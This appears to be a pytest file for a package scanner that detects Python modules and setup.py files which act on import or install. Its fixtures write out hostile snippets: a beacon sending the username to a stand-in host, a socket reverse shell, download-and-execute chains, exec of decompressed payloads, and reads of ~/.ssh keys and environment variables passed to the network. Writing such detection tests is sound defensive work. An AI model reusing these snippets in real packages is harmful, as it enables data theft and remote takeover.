"""What a module does by being imported, and what it merely defines."""

import pytest

from scanner.report import ScanJob
from scanner.ruleset import DEFAULT_RULES, RuleSet, load_rules
from scanner.scan import scan
from scanner.signals.glance import may_act
from tests.scanner.signals.built import SDIST, WHEEL, findings, fired, sdist, wheel

SENDING = b"""
import getpass as g
from urllib import request as rq


def _beat():
    rq.urlopen("https://c.example.invalid/", data=g.getuser().encode())
"""
ACTING = {
    "at the end": b"import atexit\n" + SENDING.replace(b"def ", b"@atexit.register\ndef ", 1),
    "at once": SENDING + b"\n_beat()\n",
    "in a block": SENDING + b"\ntry:\n    _beat()\nexcept OSError:\n    pass\n",
    "in a thread": SENDING + b"\nimport threading\nthreading.Thread(target=_beat, daemon=True).start()\n",
    "in a thread, over several lines": SENDING
    + b"\nimport threading\nthreading.Thread(\n    target=_beat,\n    daemon=True,\n).start()\n",
    "by a class": SENDING + b"\nclass _Beat:\n    def __init__(self):\n        _beat()\n\n_Beat()\n",
    "by a method": SENDING + b"\nclass Beat:\n    def go(self):\n        _beat()\n\nBeat().go()\n",
    "in a class": SENDING + b'\nclass Beat:\n    """A beat."""\n\n    def go(self):\n        pass\n\n    _beat()\n',
    "whatever its name is": SENDING + b"\nif __name__:\n    _beat()\n",
    "as what is imported": SENDING + b"\nif __name__ != '__main__':\n    _beat()\n",
    "as a program or not": SENDING + b"\nif __name__ == '__main__' or True:\n    _beat()\n",
    "at exit": SENDING + b"\nimport atexit\natexit.register(_beat)\n",
}
ACTING |= {
    "by a metaclass": SENDING
    + b"\nclass Meta(type):\n    def __new__(cls, *a):\n        _beat()\n        return super().__new__(cls, *a)\n"
    + b"\nclass Model(metaclass=Meta):\n    pass\n",
    "by what is made from a class": SENDING
    + b"\nclass Base:\n    def __init_subclass__(cls):\n        _beat()\n\nclass Model(Base):\n    pass\n",
}
IDLE = {
    "a function": SENDING,
    "a program": SENDING + b"\nif __name__ == '__main__':\n    _beat()\n",
    "a program, the other way round": SENDING + b"\nif '__main__' == __name__ and True:\n    _beat()\n",
    "a class that tells of it": SENDING
    + b'\nclass Beat(dict):\n    """Calls _beat() once."""\n\n    def go(self):\n        _beat()\n',
    "a method of that name": SENDING + b"\nclass Beat:\n    def get(self):\n        _beat()\n\nvalue = {}.get('x')\n",
    "a session": b"import requests\nsession = requests.Session()\nsession.headers['a'] = 'b'\n",
    "a class that is made from another": SENDING
    + b"\nclass Base:\n    def __init__(self):\n        _beat()\n\n    def __init_subclass__(cls):\n        pass\n"
    + b"\nclass Model(Base):\n    pass\n",
    "a name in a list": SENDING + b"\n__all__ = ['_beat']\nHANDLERS = {'beat': _beat}\n",
    "a clear screen": b"import os\nos.system('cls' if os.name == 'nt' else 'clear')\nos.system('')\n",
    "words for whoever looks": b"import os, requests\nos.system(\"echo 'done'\")\nos.system('pause')\n",
    "what is there": b"import subprocess\nflags = subprocess.check_output(['pkg-config', '--libs', 'x'], text=True)\n",
    "its own machine": b"""
from socket import socket
s = socket()
s.connect(('localhost', 3306))
s.connect('/run/x.sock')
import socket as so
t = so.socket(so.AF_UNIX, so.SOCK_STREAM)
t.connect('/run/y.sock')
""",
    "a decorator": b"import functools, requests\n\n@functools.cache\n"
    b"def page():\n    return requests.get('https://x.example.org/')\n",
}


@pytest.fixture(scope="module")
def rules() -> RuleSet:
    return load_rules(DEFAULT_RULES)


@pytest.mark.parametrize("source", ACTING.values(), ids=ACTING)
def test_a_module_that_sends_who_runs_it_on_import_fires(source: bytes) -> None:
    assert may_act(source)
    assert "import-sends-local-data" in fired(WHEEL, wheel({"tidetables/__init__.py": source}))


def test_a_text_in_another_encoding_has_the_lines_of_its_member(rules: RuleSet) -> None:
    source = ACTING["at once"].decode().encode("utf-16")
    report = scan(ScanJob(filename=WHEEL, data=wheel({"tidetables/__init__.py": source})), rules)
    (found,) = (one for one in report.findings if one.rule == "import-sends-local-data")
    assert found.line == 7


@pytest.mark.parametrize(
    "filler",
    [b"\n", b"\r\n", b"\r", b"    \n", b"# a comment\n"],
    ids=["blank", "blank on Windows", "blank on old Macs", "spaces", "comments"],
)
def test_lines_without_code_do_not_make_a_module_too_large_to_be_looked_at(filler: bytes) -> None:
    source = filler * (2_000_000 // len(filler)) + ACTING["at once"] + b"pass \\\n\nlast = 1\n"
    told = findings(WHEEL, wheel({"tidetables/__init__.py": source}))
    (found,) = [finding for finding in told if finding.rule == "import-sends-local-data"]
    assert found.line == len(source[: source.index(b"    rq.urlopen")].splitlines()) + 1
    assert found.snippet.startswith("rq.urlopen")


FUNCTIONS = b"".join(
    b"\n\ndef station_%d(rows, low=%d):\n    '''Rows of one.'''\n    return sorted(row for row in rows if row > low)\n"
    % (n, n)
    for n in range(1500)
)


@pytest.mark.parametrize("name", ["tidetables/__init__.py", "tidetables/core.py"])
@pytest.mark.parametrize("source", ACTING.values(), ids=ACTING)
def test_functions_that_nobody_calls_do_not_make_a_module_too_large_to_be_looked_at(source: bytes, name: str) -> None:
    for padded in (source + FUNCTIONS, FUNCTIONS + source):
        told = findings(WHEEL, wheel({name: padded}))
        (found,) = [finding for finding in told if finding.rule == "import-sends-local-data"]
        assert found.line == len(padded[: padded.index(b"    rq.urlopen")].splitlines()) + 1
        assert "import-sends-local-data" in fired(SDIST, sdist({"setup.py": padded}))


def test_modules_that_merely_ask_leave_those_that_act_their_share() -> None:
    client = (
        b"import requests\nfrom .signals import changed\nsession = requests.Session()\n"
        b"def on_change(sender):\n    session.headers['X'] = sender\nchanged.connect(on_change)\n"
    )
    clients = {
        f"tidetables/a{number}.py": client + FUNCTIONS[: FUNCTIONS.index(b"\n\ndef station_500(")]
        for number in range(12)
    }
    assert "import-sends-local-data" in fired(WHEEL, wheel({**clients, "tidetables/b.py": ACTING["at once"]}))
    crowd = {f"tidetables/a{number}.py": client + b"x = session.headers\n" * 3000 for number in range(12)}
    assert "import-sends-local-data" in fired(WHEEL, wheel({**crowd, "tidetables/__init__.py": ACTING["at once"]}))
    assert "import-sends-local-data" in fired(SDIST, sdist({**crowd, "setup.py": ACTING["at once"]}))


def test_what_runs_more_by_being_imported_than_is_followed_is_named(rules: RuleSet) -> None:
    large = b"x = 1\n" * 20_000 + ACTING["at once"]
    report = scan(ScanJob(filename=WHEEL, data=wheel({"tidetables/__init__.py": large})), rules)
    (told,) = [anomaly for anomaly in report.anomalies if anomaly.kind == "code-unfollowed"]
    assert "tidetables/__init__.py" in told.detail


NAMED = {
    "another name": b"import requests\nr = requests\nr.post(u)\n",
    "a session": b"import requests\nhttp = requests.Session()\nhttp.get(u)\n",
    "a name of a name": b"import requests as rq; r = rq;\ndef go():\n    r.put(u)\ngo()\n",
    "what a call imports": b"import importlib\nr = importlib.import_module('requests')\nr.post(u)\n",
    "what the builtin imports": b"h = __import__('httpx')\nh.post(u)\n",
    "an opener": b"import urllib.request\nurllib.request.build_opener().open(u)\n",
    "an opener's name": b"from urllib.request import build_opener\no = build_opener()\no.open(u)\n",
}


@pytest.mark.parametrize("source", NAMED.values(), ids=NAMED)
def test_a_library_is_known_under_names_that_are_given_to_it(source: bytes) -> None:
    assert "import-talks-to-network" in fired(WHEEL, wheel({"tidetables/__init__.py": source}))


@pytest.mark.parametrize("source", IDLE.values(), ids=IDLE)
def test_a_module_that_waits_until_it_is_asked_fires_nothing(source: bytes) -> None:
    assert not any(name.startswith("import-") for name in fired(WHEEL, wheel({"tidetables/__init__.py": source})))


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        (b"'pip install tide'", "import-talks-to-network"),
        (b"f'{sys.executable} -m pip install -U tide>=2'", "import-talks-to-network"),
        (b"'pip install https://x.example.org/tide.whl'", "import-fetches-and-runs"),
        (b"'pip install tide -i http://x.example.org/'", "import-fetches-and-runs"),
        (b"'pip install tide && ' + page.text", "import-fetches-and-runs"),
        (b"f'pip install {page.text}'", "import-fetches-and-runs"),
        (b"'echo x > ~/.profile'", "import-fetches-and-runs"),
    ],
)
def test_packages_that_pip_is_told_by_name_are_not_what_was_fetched(command: bytes, rule: str) -> None:
    source = b"import os, sys, requests\npage = requests.get('https://x.example.org/')\nos.system(" + command + b")\n"
    told = fired(WHEEL, wheel({"tidetables/__init__.py": source}))
    assert rule in told and "import-starts-program" in told


FETCHES = b"import os, platform, subprocess, urllib.request\n"
FETCHED = b"urllib.request.urlretrieve('https://x.example.org/lib-' + name, 'lib.zip')\n"


@pytest.mark.parametrize(
    "keeps",
    [
        b"name = 'a'\nenv = os.environ.copy()\nenv['CC'] = 'cc'\nsubprocess.check_call(['make'], env=env)\n",
        b"name = 'a'\nsubprocess.check_call(['make'], env={**os.environ, 'CC': 'cc'})\n",
        b"name = 'a'\nsubprocess.check_call(['make'], env=dict(os.environ, CC='cc'))\n",
        b"name = 'a'\nsubprocess.check_call(['make'], env=os.environ)\n",
        b"name = platform.uname().machine\n",
        (
            b"from pathlib import Path\nFILE = Path.home() / '.config' / 'a' / 'id'\nif not FILE.exists():\n"
            b"    FILE.parent.mkdir(parents=True)\n    FILE.write_text('new')\nname = FILE.read_text()\n"
        ),
        (
            b"file = os.path.join(os.path.expanduser('~'), '.cache', 'name')\nif not os.path.exists(file):\n"
            b"    with open(file, 'w') as f:\n        f.write('a')\nwith open(file) as f:\n    name = f.read()\n"
        ),
        b"name = 'a'\nprint(os.listdir('lib'))\n",
        b"name = os.path.expanduser(os.environ.get('LIB_DIR', ''))\n",
        b"name = 'a'\nos.makedirs(os.path.expanduser('~/.a'), exist_ok=True)\n",
        b"uname = platform.uname()\nname = uname.system\nif not name:\n    raise OSError(f'unknown: {uname}')\n",
    ],
)
def test_what_is_learned_of_the_machine_and_kept_is_not_sent(keeps: bytes) -> None:
    assert "import-sends-local-data" not in fired(WHEEL, wheel({"tidetables/__init__.py": FETCHES + keeps + FETCHED}))


@pytest.mark.parametrize(
    "passes",
    [
        b"env = os.environ.copy()\nname = str(env)\nsubprocess.check_call(['make'], env=env)\n",
        b"env = {**os.environ}\nname = repr(list(env.values()))\n",
        b"name = str(dict(os.environ))\n",
        b"from pathlib import Path\nname = (Path.home() / '.ssh' / 'id').read_text()\n",
        b"file = os.path.join(os.path.expanduser('~'), '.ssh', 'id')\nname = open(file).read()\n",
        b"file = os.path.expanduser('~/.ssh/id')\nwith open(file, 'rb') as f:\n    name = f.read()\n",
        b"name = os.path.expanduser('~')\n",
        b"from pathlib import Path\nname = Path.home()\nname = name / '.ssh'\nname = (name / 'id').read_text()\n",
        b"file = os.path.expanduser('~/.profile')\nopen(file, 'a').write('#')\nname = open(file).read()\n",
        b"name = ' '.join(os.listdir(os.path.expanduser('~/.ssh')))\n",
        b"uname = platform.uname()\nname = '-'.join(uname)\nprint(uname.system)\n",
    ],
)
def test_what_is_learned_of_the_machine_and_passed_on_may_be_sent(passes: bytes) -> None:
    assert "import-sends-local-data" in fired(WHEEL, wheel({"tidetables/__init__.py": FETCHES + passes + FETCHED}))


def test_a_word_as_long_as_a_payload_is_passed_over_at_once() -> None:
    # With a step for each pair of its characters, this would take an hour.
    assert not may_act(b"import requests\n# requests " + b"a" * 1_000_000 + b"\n")


def test_programs_and_made_texts_are_told_apart_from_the_network() -> None:
    for starts in (b"import subprocess\nsubprocess.run(['id'])\n", b"import os\nos.system('clear; id')\n"):
        assert "import-starts-program" in fired(WHEEL, wheel({"tidetables/__init__.py": starts}))
    made = b"import zlib\nexec(zlib.decompress(b'x'))\n"
    assert "import-runs-made-text" in fired(WHEEL, wheel({"tidetables/__init__.py": made}))
    for elsewhere in (b"exec(dec('%s'))\n", b"text = dec(b'%s')\nexec(text)\n"):
        source = b"from ._d import dec\n" + elsewhere % (b"0a1b2c3d" * 8)
        assert "import-runs-made-text" in fired(WHEEL, wheel({"tidetables/__init__.py": source}))
    for given in (
        b"def run(text):\n    exec(text)\nrun(zlib.decompress(x))\n",
        b"(lambda *given: exec(*given))(zlib.decompress(x))\n",
        b"exec.__call__(zlib.decompress(x))\n",
        b"list(map(exec, [zlib.decompress(x)]))\n",
    ):
        assert "import-runs-made-text" in fired(WHEEL, wheel({"tidetables/__init__.py": b"import zlib\n" + given}))
    template = b"for n in 'ab':\n    exec(f'{n} = 1')\n"
    assert "import-runs-made-text" not in fired(WHEEL, wheel({"tidetables/__init__.py": template}))


@pytest.mark.parametrize(
    "call",
    [
        b"subprocess.Popen(['python3', '-c', 'import worker'], close_fds=True)",
        b"subprocess.run((sys.executable, '-B', '-c', text))",
        b"os.system('python -c \"import worker\"')",
        b"os.system(f'/usr/bin/python3.11 -Sc {text!r}')",
    ],
)
def test_importing_what_starts_an_interpreter_with_code_fires_and_a_function_that_would_waits(call: bytes) -> None:
    imports = b"import os, subprocess, sys\n"
    assert "import-starts-interpreter" in fired(WHEEL, wheel({"tidetables/__init__.py": imports + call + b"\n"}))
    for idle in (b"def go(text):\n    " + call + b"\n", call.replace(b"-c", b"-m").replace(b"-Sc", b"-m") + b"\n"):
        assert "import-starts-interpreter" not in fired(WHEEL, wheel({"tidetables/__init__.py": imports + idle}))


def test_an_install_command_that_talks_fires_whatever_its_library_is_called() -> None:
    setup = b"""
from setuptools import setup
from setuptools.command.install import install
import requests as r


class Install(install):
    def run(self):
        r.get("https://c.example.invalid/")


setup(cmdclass={"install": Install})
"""
    assert "install-talks-to-network" in fired(SDIST, sdist({"setup.py": setup}))


SETUP = b"from setuptools import setup\nimport os, socket, subprocess, sys, tempfile\nfrom urllib import request\n"
TOLD = {
    "a shell on a socket": b"s = socket.create_connection(('c.example.invalid', 443))\n"
    b"subprocess.Popen(['/bin/sh', '-i'], stdin=s, stdout=s)\n",
    "commands by a socket": b"s = socket.socket()\ns.connect(('c.example.invalid', 443))\n"
    b"while c := s.recv(99):\n    s.send(subprocess.getoutput(c).encode())\n",
    "a file": b"with open(p, 'wb') as f:\n    f.write(request.urlopen(u).read())\nsubprocess.Popen([p])\n",
    "a script": b"open(p, mode='w').write(request.urlopen(u).read().decode())\n"
    b"subprocess.run([sys.executable, '-u', p])\n",
    "a temporary file": b"with tempfile.NamedTemporaryFile(delete=False) as f:\n"
    b"    f.write(request.urlopen(u).read())\nos.spawnl(os.P_NOWAIT, f.name, f.name)\n",
    "a command": b"request.urlretrieve(u, 'x/u')\nos.system('chmod +x x/u && sh x/u &')\n",
    "a name in a command": b"request.urlretrieve(u, p)\nos.system(f'nohup ./{p} --quiet')\n",
    "by path": b"from pathlib import Path\np = Path(d)\n"
    b"p.write_bytes(request.urlopen(u).read())\nos.startfile(str(p))\n",
    "a module": b"import runpy\nrequest.urlretrieve(u, p)\nrunpy.run_path(p)\n",
    "in a function": b"def go(p):\n    request.urlretrieve(u, filename=p)\n    os.system('bash ' + p)\ngo(a)\n",
}
BUILDS = {
    "a compiler": b"request.urlretrieve(u, p)\nsubprocess.check_call(['make', '-C', p])\n",
    "an archive": b"with open(p, 'wb') as f:\n    f.write(request.urlopen(u).read())\nos.system('tar xf ' + p)\n",
    "another file": b"request.urlretrieve(u, p)\nsubprocess.check_call([sys.executable, q])\n",
    "a file that is read": b"text = open(p).read() + open(q, 'rb').read()\nrequest.urlopen(u)\n"
    b"subprocess.check_call([q])\n",
    "a name of another function": b"def get(p):\n    request.urlretrieve(u, p)\ndef run(p):\n"
    b"    os.system(p)\nget(a)\nrun(b)\n",
}


@pytest.mark.parametrize("source", TOLD.values(), ids=TOLD)
def test_an_installation_that_starts_what_the_network_gives_fires(source: bytes) -> None:
    assert "import-fetches-and-runs" in fired(SDIST, sdist({"setup.py": SETUP + source + b"setup()\n"}))


@pytest.mark.parametrize("source", BUILDS.values(), ids=BUILDS)
def test_an_installation_that_fetches_and_starts_a_compiler_only_talks(source: bytes) -> None:
    told = fired(SDIST, sdist({"setup.py": SETUP + source + b"setup()\n"}))
    assert "install-talks-to-network" in told
    assert "import-fetches-and-runs" not in told


@pytest.mark.parametrize("source", [b"def (", b"(" * 5000, b"x = " + b"-" * 100_000 + b"1", b"\xff\xfe"])
def test_what_is_no_python_is_left_alone(source: bytes) -> None:
    module = source + b"\nimport requests\nrequests.get('https://evil.invalid')\n"
    assert "import-talks-to-network" not in fired(WHEEL, wheel({"tidetables/__init__.py": module}))
    assert not may_act(source)


@pytest.mark.parametrize(
    "source",
    [
        b"import zlib\nfor name, text in rows():\n    exec(zlib.decompress(text))\n",
        b"import zlib\nname, text = 'a', zlib.decompress(x)\nexec(text)\n",
        b"import zlib\n(name, text) = zlib.decompress(x).split()\nexec(text)\n",
        b"import marshal\nexec(marshal.load(open('x.bin', 'rb')))\n",
    ],
)
def test_a_text_that_comes_with_others_or_out_of_a_file_of_bytecode_is_made(source: bytes) -> None:
    assert "import-runs-made-text" in fired(WHEEL, wheel({"tidetables/__init__.py": source}))


@pytest.mark.parametrize(
    "loads",
    [
        b"from importlib import util\ns = util.spec_from_file_location('x', '/tmp/x.py')\ns.loader.exec_module(x)\n",
        b"import runpy\nrunpy.run_path('/tmp/x.py')\n",
    ],
)
def test_a_file_that_is_loaded_by_its_path_after_a_download_counts_as_run(loads: bytes) -> None:
    fetch = b"import urllib.request as r\nr.urlretrieve('https://c.example.invalid/x', '/tmp/x.py')\n"
    assert "import-fetches-and-runs" in fired(WHEEL, wheel({"tidetables/__init__.py": fetch + loads}))
    assert "import-fetches-and-runs" not in fired(WHEEL, wheel({"tidetables/__init__.py": loads}))
